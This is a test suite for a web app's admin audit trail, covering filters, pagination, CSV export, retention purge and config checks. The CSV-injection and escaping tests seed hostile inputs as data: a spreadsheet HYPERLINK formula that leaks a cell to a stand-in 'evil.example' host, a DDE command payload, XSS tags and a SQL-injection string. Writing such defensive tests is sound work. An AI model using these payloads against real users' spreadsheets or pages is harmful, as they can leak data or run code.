/**
 * The audit trail (SPEC §4 GET /api/admin/audit, page /admin/audit, §5 Audit and
 * Retention): filtered, newest first, paginated by the one helper; CSV export
 * with a row cap and CSV-injection protection; reading and exporting are
 * audited themselves; the trail is append-only; audit purge and
 * AUDIT_RETENTION_DAYS. Run on libsql and on PostgreSQL (never skipped).
 */
import { describe, expect, test } from 'bun:test'
import { and, eq, isNull, like } from 'drizzle-orm'
import { ConfigError, loadConfig } from '../../src/config'
import type { TestApp } from '../helpers/app'
import { expectErrorShape, freshUser, useApp, UUID, DIALECT } from './support'

const ADMIN = 'audit-boss@example.com'
const EVENT_KEYS = ['action', 'actor', 'actor_id', 'at', 'id', 'ip', 'job_id', 'metadata', 'request_id', 'role', 'session_id', 'target'].sort()
const CSV_HEADER = 'id,at,actor,actor_id,role,action,target,session_id,job_id,request_id,ip,metadata'
const MINUTE = 60_000
const DAY = 86_400_000

type SeedRow = {
  action: string
  at: Date
  actor?: string | null
  actorId?: string | null
  role?: string | null
  target?: string | null
  sessionId?: string | null
  jobId?: string | null
  requestId?: string | null
  ip?: string | null
  metadata?: Record<string, unknown> | null
}

let tagCounter = 0
/** A unique action family per test, so tests sharing an app never see each other's events. */
const uniqueTag = (label: string) => `test.${label}${Date.now().toString(36)}${++tagCounter}`

/** Writes events straight into the table, with ids time-ordered like the app's own (UUIDv7 of `at`). */
async function seed(t: TestApp, rows: SeedRow[]): Promise<string[]> {
  const { auditEvents } = t.deps.db.t
  const values = rows.map((row) => ({
    id: Bun.randomUUIDv7('hex', row.at),
    actorId: null,
    actor: null,
    role: null,
    target: null,
    sessionId: null,
    jobId: null,
    requestId: null,
    ip: null,
    metadata: null,
    ...row,
  }))
  for (let i = 0; i < values.length; i += 500) await t.deps.db.orm.insert(auditEvents).values(values.slice(i, i + 500))
  return values.map((value) => value.id)
}

const eventsOf = async (t: TestApp, action: string, requestId: string) => {
  await t.deps.audit.flush()
  const { auditEvents } = t.deps.db.t
  return t.deps.db.orm
    .select()
    .from(auditEvents)
    .where(and(eq(auditEvents.action, action), eq(auditEvents.requestId, requestId)))
}

/** RFC 4180 parser (quoted fields, doubled quotes, CRLF), enough to read the export back. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = []
  let row: string[] = []
  let cell = ''
  let quoted = false
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') (cell += '"'), i++
      else if (c === '"') quoted = false
      else cell += c
    } else if (c === '"') quoted = true
    else if (c === ',') row.push(cell), (cell = '')
    else if (c === '\r' && text[i + 1] === '\n') {
      row.push(cell), rows.push(row), (row = []), (cell = ''), i++
    } else cell += c
  }
  if (cell || row.length) row.push(cell), rows.push(row)
  return rows
}

describe(`audit trail on ${DIALECT}`, () => {
  const app = useApp({ ADMIN_EMAILS: ADMIN })
  const get = (path: string, user = ADMIN, role?: string) => app().json('GET', path, { user, role })

  describe('GET /api/admin/audit', () => {
    test('auditors and admins read it; members and readonly get 403 in the error shape', async () => {
      expect((await get('/api/admin/audit', freshUser('auditor'), 'auditor')).status).toBe(200)
      expect((await get('/api/admin/audit')).status).toBe(200)
      expectErrorShape(expect, await get('/api/admin/audit', freshUser('member')), 403, 'forbidden')
      expectErrorShape(expect, await get('/api/admin/audit', freshUser('ro'), 'readonly'), 403, 'forbidden')
      expectErrorShape(expect, await app().json('GET', '/api/admin/audit'), 401)
    })

    test('items carry exactly the documented fields, newest first', async () => {
      const t = app()
      const action = uniqueTag('order')
      const now = Date.now()
      const ids = await seed(t, [
        { action, at: new Date(now - 3 * MINUTE), actor: 'a@example.com', metadata: { n: 1 } },
        { action, at: new Date(now - 2 * MINUTE), actor: 'b@example.com', sessionId: 's1', jobId: 'j1', requestId: 'req-order-2', ip: '10.0.0.2', role: 'user', target: 'session:s1', actorId: 'u2' },
        { action, at: new Date(now - 1 * MINUTE), actor: 'c@example.com' },
      ])
      const res = await get(`/api/admin/audit?action=${action}`)
      expect(res.status).toBe(200)
      expect(Object.keys(res.body).sort()).toEqual(['items', 'limit', 'next_cursor'])
      expect(res.body.items.map((item: any) => item.id)).toEqual([...ids].reverse())
      for (const item of res.body.items) expect(Object.keys(item).sort()).toEqual(EVENT_KEYS)
      expect(res.body.items[1]).toEqual({
        id: ids[1],
        at: new Date(now - 2 * MINUTE).toISOString(),
        actor: 'b@example.com',
        actor_id: 'u2',
        role: 'user',
        action,
        target: 'session:s1',
        session_id: 's1',
        job_id: 'j1',
        request_id: 'req-order-2',
        ip: '10.0.0.2',
        metadata: null,
      })
      expect(res.body.items[2].metadata).toEqual({ n: 1 })
    })

    test('filters: actor (part of the email, or an id), action and target (exact or prefix*), request_id, since/until', async () => {
      const t = app()
      const family = uniqueTag('filters')
      const now = Date.now()
      await seed(t, [
        { action: `${family}.create`, at: new Date(now - 50 * MINUTE), actor: 'Alice.Smith@example.com', actorId: 'actor-alice', target: 'user:1', requestId: 'req-f-1' },
        { action: `${family}.delete`, at: new Date(now - 40 * MINUTE), actor: 'bob@example.com', target: 'user:2', requestId: 'req-f-2' },
        { action: `${family}.create`, at: new Date(now - 30 * MINUTE), actor: 'bob@example.com', target: 'session:9', requestId: 'req-f-3' },
        { action: `${family}_create`, at: new Date(now - 20 * MINUTE), actor: 'carol@example.com', target: 'user_3' },
      ])
      const actions = async (query: string) =>
        (await get(`/api/admin/audit?${query}`)).body.items.map((item: any) => `${item.action.slice(family.length)} ${item.actor}`)
      expect(await actions(`action=${family}.create`)).toEqual(['.create bob@example.com', '.create Alice.Smith@example.com'])
      // A prefix ending in *; its `_` and `.` are literal, so `${family}_create` is not a `${family}.` event.
      expect(await actions(`action=${family}.*`)).toHaveLength(3)
      expect(await actions(`action=${family}*`)).toHaveLength(4)
      expect(await actions(`action=${family}`)).toEqual([])
      expect(await actions(`action=${family}*&actor=ALICE`)).toEqual(['.create Alice.Smith@example.com'])
      expect(await actions(`action=${family}*&actor=bob@`)).toEqual(['.create bob@example.com', '.delete bob@example.com'])
      expect(await actions(`action=${family}*&actor=%25`)).toEqual([])
      expect(await actions(`action=${family}*&target=user:2`)).toEqual(['.delete bob@example.com'])
      expect(await actions(`action=${family}*&target=user:*`)).toEqual(['.delete bob@example.com', '.create Alice.Smith@example.com'])
      expect(await actions(`action=${family}*&target=user_*`)).toEqual(['_create carol@example.com'])
      expect(await actions(`action=${family}*&request_id=req-f-3`)).toEqual(['.create bob@example.com'])
      const since = new Date(now - 40 * MINUTE).toISOString()
      const until = new Date(now - 20 * MINUTE).toISOString()
      // since is inclusive, until exclusive.
      expect(await actions(`action=${family}*&since=${since}&until=${until}`)).toEqual(['.create bob@example.com', '.delete bob@example.com'])
      expect(await actions(`action=${family}*&since=${since}`)).toHaveLength(3)
      expect(await actions(`action=${family}*&until=${until}`)).toHaveLength(3)
      // An actor id (a UUID) matches actor_id exactly.
      const me = await t.json('GET', '/api/v1/me', { user: ADMIN })
      const own = (await get(`/api/admin/audit?actor=${me.body.id}&action=user.created`)).body.items
      expect(own.length).toBeGreaterThan(0)
      for (const item of own) expect(item.actor_id).toBe(me.body.id)
    })

    test('since and until accept dates and date-times (UTC unless an offset is given)', async () => {
      const t = app()
      const action = uniqueTag('instants')
      await seed(t, [{ action, at: new Date('2031-03-04T10:00:00Z') }])
      const count = async (query: string) => {
        const res = await get(`/api/admin/audit?action=${action}&${query}`)
        expect(res.status).toBe(200)
        return res.body.items.length
      }
      expect(await count('since=2031-03-04')).toBe(1)
      expect(await count('since=2031-03-05')).toBe(0)
      expect(await count('since=2031-03-04T10:00')).toBe(1)
      expect(await count('since=2031-03-04T10:00:00.001Z')).toBe(0)
      expect(await count(`since=${encodeURIComponent('2031-03-04T11:30:00+02:00')}`)).toBe(1)
      expect(await count(`until=${encodeURIComponent('2031-03-04T12:00:01+02:00')}`)).toBe(1)
      expect(await count('until=2031-03-04T10:00:00Z')).toBe(0)
    })

    test('an invalid since or until is 422 naming the field', async () => {
      for (const [query, field] of [
        ['since=yesterday', 'since'],
        ['since=2025-13-01', 'since'],
        ['since=2025-02-30', 'since'],
        ['since=2025-01-01T25:00', 'since'],
        ['until=1700000000', 'until'],
        [`until=${encodeURIComponent("2025-01-01' or 1=1 --")}`, 'until'],
        ['since=2025-02-01&until=2025-01-01', 'until'],
        ['since=2025-01-01&until=2025-01-01', 'until'],
      ] as const) {
        for (const format of ['', '&format=csv']) {
          const res = await get(`/api/admin/audit?${query}${format}`)
          expectErrorShape(expect, res, 422, 'validation_failed')
          expect(res.body.error.message).toContain(`"${field}"`)
          expect(res.body.error.details[0].field).toBe(field)
        }
      }
      expectErrorShape(expect, await get('/api/admin/audit?format=xml'), 422)
    })

    test('pagination: default 25, limit=500 → 200, limit=2 walks every event once, bad limit/cursor refused', async () => {
      const t = app()
      const action = uniqueTag('pages')
      const now = Date.now()
      const ids = await seed(t, Array.from({ length: 5 }, (_, i) => ({ action, at: new Date(now - (10 - i) * MINUTE) })))
      expect((await get('/api/admin/audit')).body.limit).toBe(25)
      const clamped = await get(`/api/admin/audit?limit=500&action=${action}`)
      expect(clamped.body.limit).toBe(200)
      expect(clamped.body.items).toHaveLength(5)
      expect(clamped.body.next_cursor).toBeNull()
      const seen: string[] = []
      let cursor: string | null = null
      let pages = 0
      do {
        const res: { body: any } = await get(`/api/admin/audit?action=${action}&limit=2${cursor ? `&cursor=${encodeURIComponent(cursor)}` : ''}`)
        expect(res.body.limit).toBe(2)
        seen.push(...res.body.items.map((item: any) => item.id))
        cursor = res.body.next_cursor
      } while (cursor && ++pages < 10)
      expect(seen).toEqual([...ids].reverse())
      for (const limit of ['0', '-1', 'abc']) expectErrorShape(expect, await get(`/api/admin/audit?limit=${limit}`), 422)
      expectErrorShape(expect, await get('/api/admin/audit?cursor=bogus'), 400, 'invalid_cursor')
    })

    test('reading the trail is itself audited (audit.view, with the filters and the request id)', async () => {
      const t = app()
      const auditor = freshUser('reader')
      const res = await t.json('GET', '/api/admin/audit?action=login&limit=3', { user: auditor, role: 'auditor' })
      expect(res.status).toBe(200)
      const events = await eventsOf(t, 'audit.view', res.headers.get('x-request-id')!)
      expect(events).toHaveLength(1)
      expect(events[0]!).toMatchObject({ actor: auditor, role: 'auditor' })
      expect(events[0]!.metadata).toEqual({ filters: { action: 'login' }, returned: res.body.items.length })
    })

    test('the trail is append-only: no route writes to it', async () => {
      const t = app()
      const writers = t.app.routes.filter((route) => route.path.startsWith('/api/admin/audit') && route.method !== 'GET')
      expect(writers.map((route) => `${route.method} ${route.path}`)).toEqual([])
      const [event] = (await get('/api/admin/audit?limit=1')).body.items
      for (const method of ['POST', 'PUT', 'PATCH', 'DELETE'])
        for (const path of ['/api/admin/audit', `/api/admin/audit/${event.id}`]) {
          const res = await t.json(method, path, { user: ADMIN, body: method === 'DELETE' ? undefined : { action: 'forged' } })
          expectErrorShape(expect, res, 404)
        }
      expect((await get(`/api/admin/audit?action=forged`)).body.items).toEqual([])
    })
  })

  describe('CSV export', () => {
    test('text/csv with a header row, the same filters and order as the JSON list, as an attachment', async () => {
      const t = app()
      const action = uniqueTag('csv')
      const now = Date.now()
      await seed(t, [
        { action, at: new Date(now - 3 * MINUTE), actor: 'plain@example.com', target: 'user:1', requestId: 'req-csv-1', metadata: { email: 'x@example.com', role: 'auditor' } },
        { action, at: new Date(now - 2 * MINUTE), actor: 'comma, "quoted"\nnewline@example.com', target: 'user:2' },
        { action, at: new Date(now - 1 * MINUTE), actor: 'other@example.com', target: 'session:3' },
      ])
      const res = await t.call('GET', `/api/admin/audit?format=csv&action=${action}&target=user:*`, { user: ADMIN })
      expect(res.status).toBe(200)
      expect(res.headers.get('content-type')).toStartWith('text/csv')
      expect(res.headers.get('content-disposition')).toMatch(/^attachment; filename="audit-[0-9T-]+\.csv"$/)
      expect(res.headers.get('x-export-truncated')).toBeNull()
      expect(res.headers.get('x-request-id')).toBeTruthy()
      const text = await res.text()
      expect(text.split('\r\n')[0]).toBe(CSV_HEADER)
      const rows = parseCsv(text)
      expect(rows[0]!.join(',')).toBe(CSV_HEADER)
      const json = (await get(`/api/admin/audit?action=${action}&target=user:*`)).body.items
      expect(rows.slice(1).map((row) => row[0])).toEqual(json.map((item: any) => item.id))
      expect(rows).toHaveLength(3)
      const [quoted, plain] = rows.slice(1)
      expect(quoted![2]).toBe('comma, "quoted"\nnewline@example.com')
      expect(plain!.slice(0, 11)).toEqual([json[1].id, json[1].at, 'plain@example.com', '', '', action, 'user:1', '', '', 'req-csv-1', ''])
      expect(JSON.parse(plain![11]!)).toEqual({ email: 'x@example.com', role: 'auditor' })
    })

    test('cells a spreadsheet would run as formulas are prefixed with a quote', async () => {
      const t = app()
      const action = uniqueTag('inject')
      await seed(t, [
        {
          action,
          at: new Date(),
          actor: '=HYPERLINK("http://evil.example/?x="&A1,"click")',
          role: '+cmd|/C calc!A0',
          target: '@SUM(1+1)',
          requestId: '-2+3',
          ip: '\t=1',
          sessionId: 'safe-value',
          metadata: { note: '=1+1' },
        },
      ])
      const res = await t.call('GET', `/api/admin/audit?format=csv&action=${action}`, { user: ADMIN })
      const [, row] = parseCsv(await res.text())
      const cell = (name: string) => row![CSV_HEADER.split(',').indexOf(name)]
      expect(cell('actor')).toBe(`'=HYPERLINK("http://evil.example/?x="&A1,"click")`)
      expect(cell('role')).toBe(`'+cmd|/C calc!A0`)
      expect(cell('target')).toBe(`'@SUM(1+1)`)
      expect(cell('request_id')).toBe(`'-2+3`)
      expect(cell('ip')).toBe(`'\t=1`)
      expect(cell('session_id')).toBe('safe-value')
      expect(cell('metadata')).toBe('{"note":"=1+1"}')
      for (const value of row!) expect(value).not.toMatch(/^[=+\-@\t\r]/)
    })

    test('exporting is audited (audit.export, with the row count) and needs audit:export', async () => {
      const t = app()
      const action = uniqueTag('exported')
      await seed(t, [{ action, at: new Date() }, { action, at: new Date() }])
      const auditor = freshUser('exporter')
      const res = await t.call('GET', `/api/admin/audit?format=csv&action=${action}`, { user: auditor, role: 'auditor' })
      expect(res.status).toBe(200)
      const events = await eventsOf(t, 'audit.export', res.headers.get('x-request-id')!)
      expect(events).toHaveLength(1)
      expect(events[0]!).toMatchObject({ actor: auditor, role: 'auditor' })
      expect(events[0]!.metadata).toEqual({ filters: { action }, rows: 2, truncated: false })
      expect(await eventsOf(t, 'audit.view', res.headers.get('x-request-id')!)).toHaveLength(0)
      expectErrorShape(expect, await t.json('GET', `/api/admin/audit?format=csv`, { user: freshUser('member') }), 403)
    })

    test(
      'at most 10,000 rows; X-Export-Truncated: true when more matched',
      async () => {
        const t = app()
        const action = uniqueTag('bulk')
        const start = Date.now() - 2 * DAY
        await seed(t, Array.from({ length: 10_001 }, (_, i) => ({ action, at: new Date(start + i * 1000), actor: `bulk-${i}@example.com` })))
        const full = await t.call('GET', `/api/admin/audit?format=csv&action=${action}`, { user: ADMIN })
        expect(full.headers.get('x-export-truncated')).toBe('true')
        const rows = (await full.text()).trimEnd().split('\r\n')
        expect(rows).toHaveLength(10_001) // header + 10,000
        expect(rows[1]).toContain('bulk-10000@example.com') // newest first: the oldest is the one left out
        expect(rows.some((row) => row.includes('bulk-0@'))).toBe(false)
        // Exactly 10,000 matching rows is a complete export.
        const since = new Date(start + 1000).toISOString()
        const exact = await t.call('GET', `/api/admin/audit?format=csv&action=${action}&since=${since}`, { user: ADMIN })
        expect(exact.headers.get('x-export-truncated')).toBeNull()
        expect((await exact.text()).trimEnd().split('\r\n')).toHaveLength(10_001)
      },
      { timeout: 60_000 },
    )
  })

  describe('page /admin/audit', () => {
    test('shows events with their request ids, filter form and export link; viewing is audited', async () => {
      const t = app()
      const action = uniqueTag('page')
      await seed(t, [{ action, at: new Date(), actor: 'shown@example.com', requestId: 'req-page-0001', target: 'user:1' }])
      const auditor = freshUser('page-auditor')
      const res = await t.call('GET', `/admin/audit?action=${action}`, { user: auditor, role: 'auditor', headers: { 'x-request-id': `audit-page-${Date.now()}` } })
      expect(res.status).toBe(200)
      expect(res.headers.get('content-type')).toContain('text/html')
      const html = await res.text()
      expect(html).toContain('<form id="audit-filter"')
      expect(html).toContain('href="/admin/audit?request_id=req-page-0001"')
      expect(html).toContain('<code>req-page-0001</code>')
      expect(html).toContain(`href="/api/admin/audit?action=${action}&format=csv"`)
      expect(html).toContain(`value="${action}"`)
      const viewed = await eventsOf(t, 'admin.view', res.headers.get('x-request-id')!)
      expect(viewed).toHaveLength(1)
      expect(viewed[0]!).toMatchObject({ actor: auditor, target: 'page:/admin/audit' })
    })

    test('htmx: the filter answers the results section, "load more" the next rows; a bad date answers in place', async () => {
      const t = app()
      const action = uniqueTag('frag')
      const now = Date.now()
      await seed(t, Array.from({ length: 3 }, (_, i) => ({ action, at: new Date(now - (5 - i) * MINUTE), requestId: `req-frag-${i}` })))
      const section = await t.call('GET', `/admin/audit?action=${action}&limit=2`, { user: ADMIN, headers: { 'hx-request': 'true' } })
      expect(section.status).toBe(200)
      const html = await section.text()
      expect(html).toStartWith('<section id="audit-results">')
      expect(html).toContain('req-frag-2')
      expect(html).toContain('req-frag-1')
      expect(html).not.toContain('req-frag-0')
      const more = /hx-get="([^"]+cursor=[^"]+)"/.exec(html)?.[1]?.replaceAll('&amp;', '&')
      expect(more).toBeTruthy()
      const rows = await t.call('GET', more!, { user: ADMIN, headers: { 'hx-request': 'true' } })
      const rowsHtml = await rows.text()
      expect(rowsHtml).toStartWith('<tr')
      expect(rowsHtml).toContain('req-frag-0')
      expect(rowsHtml).not.toContain('req-frag-1')
      expect(rowsHtml).not.toContain('audit-more')

      const bad = await t.call('GET', '/admin/audit?since=soon', { user: ADMIN, headers: { 'hx-request': 'true' } })
      expect(bad.status).toBe(422)
      const badHtml = await bad.text()
      expect(badHtml).toStartWith('<section id="audit-results">')
      expect(badHtml).toContain('Invalid query field &quot;since&quot;')
      const badPage = await t.call('GET', '/admin/audit?until=never', { user: ADMIN })
      expect(badPage.status).toBe(422)
      expect(await badPage.text()).toContain('value="never"')
    })

    test('values from the trail are escaped', async () => {
      const t = app()
      const action = uniqueTag('xss')
      await seed(t, [{ action, at: new Date(), actor: '<img src=x onerror=alert(1)>', target: '<script>alert(2)</script>', metadata: { x: '</code><b>bold</b>' } }])
      const html = await (await t.call('GET', `/admin/audit?action=${action}`, { user: ADMIN })).text()
      expect(html).not.toContain('<img src=x')
      expect(html).not.toContain('<script>alert(2)')
      expect(html).not.toContain('<b>bold</b>')
      expect(html).toContain('&lt;img src=x onerror=alert(1)&gt;')
    })

    test('members get 403', async () => {
      expectErrorShape(expect, await app().json('GET', '/admin/audit', { user: freshUser('member') }), 403)
    })
  })

  test('batched events (recordLater) are stored exactly: quotes, unicode, nested metadata, nulls, redacted keys', async () => {
    const t = app()
    const action = uniqueTag('batched')
    const metadata = { note: `it's "quoted" \\ and ünïcödé ✓`, nested: { list: [1, 'two', null], deep: { ok: true } }, api_key: 'sk-secret' }
    const at = Date.now()
    t.deps.audit.recordLater({ action, actor: "o'brien@example.com", target: 'session:x', requestId: 'req-batched-1', metadata })
    t.deps.audit.recordLater({ action, actor: null, role: null, target: null, metadata: undefined })
    await t.deps.audit.flush()
    const { auditEvents } = t.deps.db.t
    const rows = await t.deps.db.orm.select().from(auditEvents).where(eq(auditEvents.action, action)).orderBy(auditEvents.id)
    expect(rows).toHaveLength(2)
    expect(rows[0]!.actor).toBe("o'brien@example.com")
    expect(rows[0]!.requestId).toBe('req-batched-1')
    expect(rows[0]!.metadata).toEqual({ ...metadata, api_key: '[redacted]' })
    expect(rows[0]!.id).toMatch(UUID)
    expect(Math.abs(rows[0]!.at.getTime() - at)).toBeLessThan(5000)
    expect(rows[1]).toMatchObject({ actor: null, role: null, target: null, sessionId: null, jobId: null, metadata: null })
    // SQL NULL, not the JSON value null (the driver reads both as null).
    const sqlNull = await t.deps.db.orm.select({ id: auditEvents.id }).from(auditEvents).where(and(eq(auditEvents.action, action), isNull(auditEvents.metadata)))
    expect(sqlNull.map((row) => row.id)).toEqual([rows[1]!.id])
  })

  describe('retention: audit purge', () => {
    // An app of its own: the purge removes every old event in it.
    const own = useApp()

    test('deletes events older than the cut-off (in batches), keeps the rest, and leaves one audit.purge event', async () => {
      const t = own()
      const action = uniqueTag('retained')
      const now = Date.now()
      const old = await seed(t, Array.from({ length: 5 }, (_, i) => ({ action, at: new Date(now - (400 + i) * DAY) })))
      const edge = await seed(t, [{ action, at: new Date(now - 364 * DAY) }])
      const recent = await seed(t, [{ action, at: new Date(now - MINUTE) }])
      const cutoff = new Date(now - 365 * DAY)
      expect(await t.deps.audit.purge(cutoff, { batchSize: 2 })).toBe(5)
      const { auditEvents } = t.deps.db.t
      const left = await t.deps.db.orm.select({ id: auditEvents.id }).from(auditEvents).where(like(auditEvents.action, `${action}%`))
      expect(left.map((row) => row.id).sort()).toEqual([...edge, ...recent].sort())
      for (const id of old) expect(left.map((row) => row.id)).not.toContain(id)
      const purges = await t.deps.db.orm.select().from(auditEvents).where(eq(auditEvents.action, 'audit.purge'))
      expect(purges).toHaveLength(1)
      expect(purges[0]!.id).toMatch(UUID)
      expect(purges[0]!.metadata).toEqual({ older_than: cutoff.toISOString(), deleted: 5 })
      // Nothing left to purge: no deletion, no event.
      expect(await t.deps.audit.purge(cutoff)).toBe(0)
      expect(await t.deps.db.orm.select().from(auditEvents).where(eq(auditEvents.action, 'audit.purge'))).toHaveLength(1)
    })

    test('refuses an invalid date', async () => {
      expect(own().deps.audit.purge(new Date('nope'))).rejects.toThrow('olderThan')
    })
  })
})

describe('AUDIT_RETENTION_DAYS', () => {
  test('defaults to 365 days, takes a whole number of days (0 keeps events forever)', () => {
    expect(loadConfig({ APP_ENV: 'test' }).retention.auditDays).toBe(365)
    expect(loadConfig({ APP_ENV: 'test', AUDIT_RETENTION_DAYS: '30' }).retention.auditDays).toBe(30)
    expect(loadConfig({ APP_ENV: 'test', AUDIT_RETENTION_DAYS: '0' }).retention.auditDays).toBe(0)
  })

  test('a bad value stops start-up with an error naming the variable', () => {
    for (const value of ['abc', '-1', '1.5', '36501']) {
      let error: unknown
      try {
        loadConfig({ APP_ENV: 'test', AUDIT_RETENTION_DAYS: value })
      } catch (caught) {
        error = caught
      }
      expect(error).toBeInstanceOf(ConfigError)
      expect((error as ConfigError).variable).toBe('AUDIT_RETENTION_DAYS')
    }
  })
})
